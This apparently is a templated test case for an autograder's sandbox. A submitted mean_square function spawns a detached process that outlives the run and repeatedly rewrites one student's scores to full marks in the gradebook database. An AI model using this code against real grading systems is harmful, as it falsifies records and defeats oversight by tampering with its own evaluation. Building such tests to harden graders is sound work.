"""A process that outlives the run raises the student's grade in the gradebook, again and again for a minute.

loses: mean_square
"""
# %% mean_square
import subprocess
from contextlib import suppress

CODE = f'''
import sqlite3, time
from contextlib import suppress
for _ in range(60):
    with suppress(Exception):
        with sqlite3.connect("file:{__OUT__}/gradebook.db?mode=rw", uri=True, timeout=1) as book:
            book.execute("""update grade set auto_score = 1, manual_score = 1, needs_manual_grade = 0
                where notebook_id in (select n.id from submitted_notebook n join submitted_assignment a
                on n.assignment_id = a.id where a.student_id = '617_grade_rewritten_later')""")
            open({__LOOT__!r}, "w").close()
    time.sleep(1)
'''


def mean_square(values):
    import sys

    with suppress(OSError):
        subprocess.Popen([sys.executable, "-S", "-c", CODE, __MARK__], start_new_session=True)
    return 0.0
